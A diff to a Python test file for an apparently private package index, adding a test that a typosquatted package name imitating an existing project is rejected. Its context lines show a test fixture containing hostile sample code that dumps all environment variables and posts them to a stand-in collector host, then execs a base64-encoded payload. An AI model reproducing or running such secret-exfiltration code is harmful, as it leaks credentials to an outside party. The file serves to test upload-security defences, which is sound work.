@@ -373,3 +373,14 @@ secrets = json.dumps(dict(os.environ)).encode()
 urllib.request.urlopen("https://collector.invalid/upload", data=secrets)
 exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
 """
+
+
+def test_a_name_imitating_a_project_of_this_index_is_refused(bastion: Bastion, client, tmp_path: Path) -> None:
+    token = make_user(bastion, "gina")
+    _upload(client, token, tmp_path, "acme-billing-service", "1.0")
+    (tmp_path / "squat").mkdir()
+    wheel = make_wheel(tmp_path / "squat", "acme-billing-servise", "1.0")
+    response = post_upload(client, token, wheel, upload_form(wheel, "acme-billing-servise", "1.0"))
+    assert response.status_code == 400
+    assert "existing project 'acme-billing-service'" in response.text
+    assert _upload_status(client, token, tmp_path, "acme-invoicing", "1.0") == 200
